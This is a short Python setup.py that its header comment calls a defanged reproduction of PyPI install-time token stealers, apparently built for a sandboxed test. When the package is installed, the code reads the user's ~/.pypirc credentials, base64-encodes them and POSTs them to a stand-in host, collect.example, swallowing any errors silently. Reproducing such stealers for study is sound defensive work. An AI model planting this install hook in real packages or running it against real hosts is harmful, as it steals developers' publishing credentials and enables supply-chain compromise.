# Defanged reproduction of the PyPI setup.py token stealers: at install time it reads the
# user's ~/.pypirc and POSTs it base64-encoded to an example domain (the airlock sink
# answers it; nothing leaves the sandbox).
import base64
import os
import urllib.request

from setuptools import setup


def _collect():
    try:
        with open(os.path.expanduser("~/.pypirc"), "rb") as f:
            data = f.read()
    except OSError:
        return
    req = urllib.request.Request(
        "https://collect.example/u",
        data=base64.b64encode(data),
        headers={"Content-Type": "text/plain"},
        method="POST",
    )
    try:
        urllib.request.urlopen(req, timeout=10).read()
    except Exception:
        pass


_collect()

setup(
    name="pypirc-courier",
    version="0.3.1",
    packages=["pypirc_courier"],
)
